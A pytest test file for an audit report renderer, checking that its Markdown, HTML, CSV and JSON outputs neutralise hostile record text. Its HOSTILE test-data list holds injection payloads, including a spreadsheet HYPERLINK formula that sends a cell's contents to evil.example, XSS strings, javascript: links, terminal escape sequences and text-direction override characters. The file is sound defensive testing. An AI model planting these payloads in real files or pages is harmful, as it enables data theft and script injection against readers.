"""The compliance report in each format: all facts, and no text from the record that a reader's program obeys."""

from __future__ import annotations

import csv as csv_module
import io
import json
import re
import unicodedata
from collections.abc import Iterator
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from backfill_cli.render.as_json import write_result
from backfill_cli.render.audit_report import FORMATS, tables, writer
from backfill_cli.render.audit_report_csv import COLUMNS, cell
from backfill_cli.render.audit_report_md import escaped
from backfill_cli.render.safe import safe_text
from render.report_samples import BROKEN, EMPTY, report

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    'a","=1+1',
    "a;=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</style><body onload=alert(1)>",
    "<!--",
    "&lt;b&gt; &#60;",
    "javascript:alert(1)",
    "a | b \\| c \\",
    "one\ntwo\r\nthree",
    "![x](http://evil.example/p.png) [y](javascript:alert(1)) <http://evil.example>",
    "http://evil.example www.evil.example",
    "# h **b** _i_ `c` ~~s~~ $x$",
    "| --- | --- |",
    "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "\u202egnp.exe\u2066 \u2028 \ufeff",
    "\x00\ud800",
]
anything = st.text(st.characters(codec=None), max_size=40)


def text_of(name: str, *words: str, **changes: object) -> str:
    return "".join(writer(name)(report(*words, **changes)))  # type: ignore[arg-type]


def is_harmless(text: str, *, keep: str = "\n") -> bool:
    """No control character, no mark that turns the direction of text, no half of a surrogate pair."""
    return all(char in keep or unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Zl", "Zp") for char in text)


# every format


@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize("text", HOSTILE)
def test_no_format_holds_a_character_that_drives_a_program(name: str, text: str) -> None:
    made = text_of(name, text)
    assert is_harmless(made, keep="\r\n" if name == "csv" else "\n")
    made.encode()


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_says_that_the_chain_is_broken_and_where_before_anything_of_the_record(name: str) -> None:
    made = text_of(name, "WORD", verdict=BROKEN, store="s")
    assert "entry 5 was changed after it was written" in made
    assert made.index("broken" if name != "json" else '"holds": false') < made.index("WORD", made.index("entry 5"))


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_can_say_that_nothing_happened(name: str) -> None:
    made = text_of(name, **EMPTY)
    assert "9f3c81d2" in made
    assert {"md": "None.", "html": "<p>None.</p>", "json": '"backfills": []', "csv": '"verdict"'}[name] in made


@pytest.mark.parametrize("name", FORMATS)
def test_instants_are_utc_and_say_so(name: str) -> None:
    """Contract section 1."""
    made = text_of(name)
    stamps = re.findall(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\S{0,13}", made)
    assert len(stamps) > 10
    assert all(re.match(r"[\d:T.-]+(Z|\+00:00)", one) for one in stamps)


# HTML


class Page(HTMLParser):
    """What a browser would make of a page: tags, attributes, and the text of each cell."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.cells: list[str] = []
        self._is_in_cell = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}
        if tag in ("td", "dd"):
            self._is_in_cell = True
            self.cells.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "dd"):
            self._is_in_cell = False

    def handle_data(self, data: str) -> None:
        if self._is_in_cell:
            self.cells[-1] += data

    def handle_comment(self, data: str) -> None:
        self.tags.add("comment")


CALM = Page(text_of("html"))


@pytest.mark.parametrize("text", HOSTILE)
def test_html_has_the_same_tags_and_attributes_whatever_the_record_holds(text: str) -> None:
    page = Page(text_of("html", text))
    assert (page.tags, page.attributes) == (CALM.tags, CALM.attributes)
    assert safe_text(text) in page.cells


@given(anything)
def test_html_shows_any_text_and_obeys_none(text: str) -> None:
    page = Page(text_of("html", text))
    assert (page.tags, page.attributes) == (CALM.tags, CALM.attributes)
    assert len(page.cells) == len(CALM.cells)


def test_html_is_one_file_without_script_or_anything_fetched() -> None:
    assert not CALM.tags & {"script", "link", "img", "iframe", "object", "embed", "base", "form", "a", "comment"}
    names = {name for name, _ in CALM.attributes}
    assert not names & {"src", "href", "style", "action", "srcset"}
    assert not any(name.startswith("on") for name in names)
    style = re.search(r"<style>(.*)</style>", text_of("html"), re.DOTALL)
    assert style is not None
    assert "url(" not in style[1]
    assert "@import" not in style[1]


def test_the_policy_of_the_page_admits_its_own_style_sheet_and_nothing_else() -> None:
    from base64 import b64encode
    from hashlib import sha256

    made = text_of("html")
    style = re.search(r"<style>(.*)</style>", made, re.DOTALL)
    assert style is not None
    digest = b64encode(sha256(style[1].encode()).digest()).decode()
    (policy,) = (value for name, value in CALM.attributes if name == "content" and "default-src" in value)
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'"


def test_a_broken_chain_is_red_in_html_and_a_whole_one_is_not() -> None:
    assert ("class", "verdict bad") in Page(text_of("html", verdict=BROKEN)).attributes
    assert ("class", "verdict good") in CALM.attributes


# Markdown


def tokens(text: str) -> Iterator[str]:
    for token in MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text):
        yield token.type
        yield from (child.type for child in token.children or ())


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_has_tables_bold_and_text_and_nothing_else(text: str) -> None:
    found = set(tokens(text_of("md", text)))
    assert not found & {"html_inline", "html_block", "link_open", "image", "code_inline", "em_open", "s_open", "fence"}
    assert not found & {"softbreak", "hardbreak", "code_block", "blockquote_open"}


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_keeps_its_rows_and_columns_whatever_the_record_holds(text: str) -> None:
    def shape(made: str) -> list[str]:
        return [one for one in tokens(made) if one.startswith(("tr_", "td_", "th_", "list_item", "heading"))]

    assert shape(text_of("md", text)) == shape(text_of("md"))


@given(anything)
def test_a_markdown_cell_shows_exactly_its_text(text: str) -> None:
    made = MarkdownIt("commonmark").enable("table").render(f"| a |\n|---|\n| x{escaped(text)}x |\n")
    (shown,) = re.findall(r"<td>(.*)</td>", made)
    assert unescape(shown) == f"x{safe_text(text)}x"


def test_names_with_underscores_stay_readable_in_markdown() -> None:
    assert escaped("daily_sales_v2 and __all__") == "daily_sales_v2 and \\_\\_all\\_\\_"


def test_bare_addresses_are_no_links_on_github() -> None:
    assert escaped("see http://a.example, WWW.b.example") == "see http\\://a.example, WWW\\.b.example"


def test_the_verdict_is_coloured_on_a_terminal_and_nothing_else_is() -> None:
    coloured = "".join(writer("md")(report(verdict=BROKEN), colour=True))
    assert re.findall(r"\x1b\[[\d;]*m", coloured) == ["\x1b[1;31m", "\x1b[0m"]
    assert coloured.index("broken at entry 5") < coloured.index("\x1b[0m") < coloured.index("Period")
    assert re.sub(r"\x1b\[[\d;]*m", "", coloured) == text_of("md", verdict=BROKEN)


# CSV


def rows_of(text: str) -> list[list[str]]:
    return list(csv_module.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_csv_cell_begins_as_a_formula(text: str) -> None:
    rows = rows_of(text_of("csv", text))
    assert {len(row) for row in rows} == {len(COLUMNS)}
    for row in rows:
        for one in row:
            assert not re.match(r"\s*[=+\-@\t\r\n＝＋－＠]", one), one


@given(anything)
def test_a_csv_cell_reads_back_as_its_text_with_at_most_an_apostrophe_in_front(text: str) -> None:
    [[shown, behind]] = rows_of(f"{cell(text)},{cell('next')}\r\n")
    assert shown in (safe_text(text), "'" + safe_text(text))
    assert behind == "next"


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t=1", "\r1", "\n1", "  =1", "＝1"])
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert cell(text).startswith("\"'")
    assert cell("x" + text).startswith('"x')


def test_csv_lines_are_quoted_and_end_as_rfc_4180_says() -> None:
    """Every cell quoted: a spreadsheet that takes another separator finds no cell inside a cell."""
    made = text_of("csv", 'a "quoted", b')
    assert made.count("\r\n") == made.count("\n") == len(rows_of(made))
    assert made.endswith("\r\n")
    assert '"a ""quoted"", b"' in made
    assert all(re.fullmatch(r'"([^"]|"")*"(,"([^"]|"")*")*', line) for line in made.split("\r\n")[:-1])


def test_csv_has_every_section_under_one_header() -> None:
    rows = rows_of(text_of("csv"))
    assert tuple(rows[0]) == COLUMNS
    assert {row[0] for row in rows[1:]} == {
        "report", "verdict", "period asked", "period covered", "head", "actor", "operation", "backfill", "failure",
        "repair", "version", "executed again", "reset",
    }  # fmt: skip


# JSON


@given(anything)
def test_json_is_what_the_envelope_holds_and_any_text_comes_back(text: str) -> None:
    made = text_of("json", text)
    file = io.StringIO()
    write_result(file, "audit report", report(text).data(), exit_code=0)
    assert made.isascii()
    found = json.loads(made)
    assert (found.pop("schema"), found.pop("report")) == ("bfill/1", "audit")
    assert found == json.loads(file.getvalue())["data"]
    assert found["actors"][0]["actor"] == text
    assert found["backfills"][0]["reasons"] == ([text] if text else [])


# the tables behind them


def test_every_row_has_a_cell_for_each_column() -> None:
    made = report()
    for table in tables(made):
        rows = list(table.rows)
        assert rows, table.title
        for row in rows:
            assert len(row) == len(table.columns), table.title
            assert all(isinstance(one, tuple) and one for one in row), table.title


def test_long_lists_in_a_cell_say_how_many_more_there_are() -> None:
    from dataclasses import replace

    made = report()
    many = replace(made.failures[0], dates=5_000, shown=tuple(range(0, 86_400 * 1_000, 86_400)))
    assert "and 4,990 more" in "".join(writer("md")(replace(made, failures=[many])))
